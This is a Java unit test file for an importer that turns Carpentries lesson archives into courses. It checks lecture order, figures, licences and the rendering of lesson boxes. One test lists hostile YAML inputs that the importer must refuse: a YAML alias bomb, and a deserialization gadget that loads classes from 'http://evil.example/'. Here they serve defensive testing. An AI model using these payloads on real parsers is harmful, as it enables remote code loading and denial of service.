package org.roundtable.interchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;
import static org.roundtable.interchange.CourseReport.Outcome.LEFT;
import static org.roundtable.interchange.CourseReport.Outcome.TAKEN;
import static org.roundtable.interchange.CourseReport.Outcome.WARNING;
import static org.roundtable.interchange.Zips.archive;

import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.roundtable.lecture.Paths;
import org.roundtable.shared.Audience;
import org.roundtable.shared.Markup;
import org.roundtable.shared.Showing;

class CarpentriesTest {

    private static CourseReading read(byte[] zip) {
        try (var archive = archive(zip)) {
            return CourseReading.of(archive);
        }
    }

    private static List<String> keys(CourseReading reading, String path) {
        return reading.report().lines().stream().filter(line -> line.where().equals(path)).map(CourseReport.Line::messageKey).toList();
    }

    /** The lesson this form was made for. */
    @Nested
    class Instructor_training {

        private final byte[] zip = Zips.fixture("instructor-training");
        private final CourseReading reading = read(zip);
        private final FoundCourse draft = reading.draft();

        @Test
        void becomes_a_course_of_25_lectures_in_the_order_of_its_config() {
            assertThat(draft.title()).isEqualTo("Instructor Training");
            assertThat(draft.lectures().map(FoundCourse.Lecture::path)).hasSize(25).isSorted()
                .startsWith("episodes/01-welcome.md", "episodes/02-practice-learning.md").endsWith("episodes/25-wrap-up.md");
            assertThat(draft.lectures()).extracting(FoundCourse.Lecture::title, FoundCourse.Lecture::minutes, FoundCourse.Lecture::practice)
                .contains(tuple("Memory and Cognitive Load", 20, 25), tuple("Part 1 Break", 15, 0), tuple("The Carpentries: How We Operate", 20, 25));
        }

        @Test
        void has_its_blocks_as_units_in_the_order_of_its_lectures() {
            assertThat(draft.units()).extracting(FoundCourse.Unit::title, unit -> unit.lectures().size()).containsExactly(
                tuple("Welcome", 1), tuple("How Learning Works", 4), tuple("Building Teaching Skill", 2),
                tuple("Creating a Positive Learning Environment", 3), tuple("Building Teaching Skill (2)", 2), tuple("Welcome Back", 2),
                tuple("The Carpentries", 2), tuple("Building Teaching Skill (3)", 6), tuple("The Carpentries (2)", 3));
        }

        @Test
        void carries_licence_attribution_and_source() {
            assertThat(draft.licence()).isEqualTo("CC-BY-4.0");
            assertThat(draft.attribution()).isEqualTo("The Carpentries");
            assertThat(draft.source()).isEqualTo("https://github.com/carpentries/instructor-training/");
            assertThat(draft.summary()).startsWith("Welcome to The Carpentries Instructor Training curriculum!").hasSizeLessThanOrEqualTo(300);
            assertThat(draft.description()).contains("evidence-based teaching practices");
        }

        @Test
        void brings_every_figure_it_has_and_names_those_it_has_not() {
            assertThat(draft.files()).hasSize(21).allMatch(file -> file.path().startsWith("episodes/fig/"));
            var used = draft.lectures().flatMap(lecture -> lecture.files().stream()).collect(Collectors.toSet());
            assertThat(used).isSubsetOf(draft.files().stream().map(FoundCourse.File::path).toList()).hasSize(21);
            assertThat(reading.report().lines()).filteredOn(line -> line.messageKey().equals("interchange.course.warning.pictureMissing"))
                .extracting(CourseReport.Line::where, line -> line.arguments().get(0))
                .containsExactlyInAnyOrder(tuple("episodes/09-eia.md", "fig/sketchplanations-the-curb-cut-effect.png"), tuple("episodes/11-practice-teaching.md", "fig/deathbulge-jerk.jpg"),
                    tuple("learners/checkout.md", "fig/Instructor_Training_Repo_0.png"), tuple("learners/checkout.md", "fig/Instructor_Training_Repo_1.svg"),
                    tuple("learners/checkout.md", "fig/Instructor_Training_Repo_2.svg"), tuple("learners/checkout.md", "fig/Edit_this_page.svg"),
                    tuple("learners/checkout.md", "fig/Instructor_Training_Repo_4.svg"));
        }

        @Test
        void has_a_line_for_every_file() {
            try (var archive = archive(zip)) {
                assertThat(archive.paths()).allSatisfy(path -> assertThat(reading.report().lines())
                    .filteredOn(line -> line.where().equals(path) && line.outcome() != WARNING).hasSize(1));
            }
            assertThat(reading.report().lines()).filteredOn(line -> line.outcome() == LEFT).extracting(CourseReport.Line::where).containsExactly("profiles/learner-profiles.md");
        }

        @Test
        void keeps_what_stands_beside_the_lectures_as_reference_material() {
            assertThat(draft.pages()).filteredOn(page -> page.audience() == Audience.LEARNERS).extracting(FoundCourse.Page::title)
                .contains("Glossary", "Checkout Instructions", "Preparing for Training and Certification", "Licenses").hasSize(10);
            assertThat(draft.pages()).filteredOn(page -> page.audience() == Audience.TEAM).extracting(FoundCourse.Page::title)
                .containsExactly("Icebreakers", "Additional Exercises", "Trainer Notes");
        }

        @Test
        void shows_its_boxes_as_such_folds_solutions_and_keeps_notes_for_the_team() {
            var learners = rendered(Audience.LEARNERS);
            var team = rendered(Audience.TEAM);

            assertThat(learners.select(".box.challenge")).hasSizeGreaterThan(40);
            assertThat(learners.select(".box.objectives")).hasSize(19);
            assertThat(learners.select(".box.questions")).hasSize(19);
            assertThat(learners.select(".box.keypoints")).hasSize(19);
            assertThat(learners.select(".box.callout")).hasSizeGreaterThan(20);
            assertThat(learners.select("details.box.solution")).hasSizeGreaterThan(5);
            assertThat(learners.select("details[open], .box.solution:not(details)")).isEmpty();
            assertThat(learners.select(".box.instructor")).isEmpty();
            assertThat(learners.text()).doesNotContain("The host key is in the email", ":::");
            assertThat(team.select(".box.instructor")).hasSizeGreaterThan(15);
            assertThat(team.text()).contains("The host key is in the email").doesNotContain(":::");
        }

        @Test
        void leads_its_links_to_its_own_lectures_pages_and_figures() {
            var team = rendered(Audience.TEAM);

            assertThat(team.select("img")).hasSize(15).allMatch(img -> img.attr("src").startsWith("/episodes/fig/") && img.hasAttr("alt"));
            assertThat(team.select("a[href^=/]").eachAttr("href")).contains("/episodes/06-feedback.md#h-minute-cards", "/instructors/icebreakers.md", "/learners/checkout.md",
                "/episodes/23-introductions.md");
            assertThat(team.select("li > a[href^=/episodes/fig/]")).hasSize(7);
            assertThat(team.text()).doesNotContain("{alt=", "width=\"");
        }

        private org.jsoup.nodes.Document rendered(Audience audience) {
            var all = draft.lectures().map(FoundCourse.Lecture::path).collect(Collectors.toList());
            draft.pages().forEach(page -> all.add(page.path()));
            draft.files().forEach(file -> all.add(file.path()));
            var paths = new Paths(all);
            return Jsoup.parseBodyFragment(draft.lectures().map(lecture -> Markup.render(lecture.markdown(),
                Showing.article(audience, link -> paths.meant(lecture.path(), link).map("/"::concat), key -> key))).collect(Collectors.joining()));
        }
    }

    private static final String CONFIG = "title: Small\nlicense: CC-BY 4.0\nepisodes:\n- b.md\n- a.md\n- c.md\n";

    @Test
    void an_episode_that_is_listed_and_missing_or_there_and_not_listed_is_said() {
        var reading = read(Zips.of("config.yaml", CONFIG, "episodes/a.md", "---\ntitle: A\n---\nText", "episodes/b.md", "# B\n\nText", "episodes/d.md", "D"));

        assertThat(reading.draft().lectures().map(FoundCourse.Lecture::title)).containsExactly("B", "A");
        assertThat(keys(reading, "config.yaml")).containsExactly("interchange.course.taken.outline", "interchange.course.warning.episodeMissing");
        assertThat(keys(reading, "episodes/d.md")).containsExactly("interchange.course.left.notListed");
    }

    @Test
    void a_title_is_not_repeated_in_its_text() {
        var reading = read(Zips.of("config.yaml", "title: T", "episodes/a.md", "---\ntitle: Hello there\n---\n# Hello there\n\nText"));

        assertThat(reading.draft().lectures().map(FoundCourse.Lecture::markdown)).containsExactly("Text\n");
    }

    @Test
    void a_head_that_cannot_be_read_is_said_and_the_text_is_kept() {
        var reading = read(Zips.of("config.yaml", "title: T", "episodes/01-first-steps.md", "---\ntitle: [unclosed\n---\nText"));

        assertThat(reading.draft().lectures()).extracting(FoundCourse.Lecture::title, FoundCourse.Lecture::markdown).containsExactly(tuple("First steps", "Text\n"));
        assertThat(keys(reading, "episodes/01-first-steps.md")).contains("interchange.course.warning.headUnreadable");
    }

    @Test
    void what_is_not_text_not_known_or_not_what_it_says_is_left_and_said() {
        var reading = read(Zips.of("config.yaml", "title: T", "episodes/a.md", "![x](fig/a.png)", "episodes/fig/a.png", "<script>", "episodes/run.exe", "MZ",
            "episodes/data.zip", "PK", ".github/workflows/x.yml", "x", "__MACOSX/._a", "x", "README.md", "x", "site/built.md", "x", "episodes/data/x.csv", "a,b"));

        assertThat(reading.report().lines()).extracting(CourseReport.Line::where, CourseReport.Line::messageKey).contains(
            tuple("episodes/fig/a.png", "interchange.course.left.notWhatItSays"), tuple("episodes/run.exe", "interchange.course.left.unknownKind"),
            tuple("episodes/data.zip", "interchange.course.left.nestedArchive"), tuple(".github/workflows/x.yml", "interchange.course.left.system"),
            tuple("__MACOSX/._a", "interchange.course.left.system"), tuple("README.md", "interchange.course.left.about"), tuple("site/built.md", "interchange.course.left.elsewhere"),
            tuple("episodes/data/x.csv", "interchange.course.taken.file"), tuple("episodes/a.md", "interchange.course.warning.pictureMissing"));
        assertThat(reading.report().count(TAKEN)).isEqualTo(3);
    }

    @Test
    void a_course_without_a_licence_is_taken_with_a_warning() {
        var reading = read(Zips.of("config.yaml", "title: T", "episodes/a.md", "x"));

        assertThat(reading.draft().licence()).isEmpty();
        assertThat(keys(reading, "config.yaml")).contains("interchange.course.warning.noLicence");
    }

    @Test
    void hostile_yaml_does_no_harm() {
        var bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c]\n";
        for (var yaml : List.of(bomb, "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
            "[".repeat(5000), "x: ".repeat(3000), "- just\n- a list", "just words", "title: x\ntitle: y", "\u0000")) {
            assertThatThrownBy(() -> read(Zips.of("config.yaml", yaml, "episodes/a.md", "x"))).as(yaml)
                .isInstanceOfSatisfying(ArchiveRefused.class, refused -> assertThat(refused.messageKey()).isEqualTo("interchange.courseConfigUnreadable"));
        }
    }

    @Test
    void yaml_that_holds_itself_does_no_harm() {
        assertThat(read(Zips.of("config.yaml", "title: T\nepisodes: &a [*a, a.md]\nlicense: &b {b: *b}\n", "episodes/a.md", "x")).draft().lectures()).hasSize(1);
    }

    @Test
    void an_archive_that_is_no_course_or_has_no_lecture_is_refused() {
        assertThatThrownBy(() -> read(Zips.of("a.md", "x"))).isInstanceOf(ArchiveRefused.class).hasMessageContaining("courseNotRecognised");
        assertThatThrownBy(() -> read(Zips.of("config.yaml", "title: x", "episodes/fig/a.txt", "x"))).isInstanceOf(ArchiveRefused.class).hasMessageContaining("courseWithoutLectures");
    }

    @Test
    void a_text_without_end_is_left() {
        var reading = read(Zips.of("config.yaml", "title: T", "episodes/a.md", "x", "learners/b.md", IntStream.range(0, 200_000).mapToObj(i -> "word" + i).collect(Collectors.joining(" "))));

        assertThat(keys(reading, "learners/b.md")).containsExactly("interchange.course.left.textTooLong");
        assertThat(Optional.of(reading.draft().pages())).contains(List.of());
    }
}
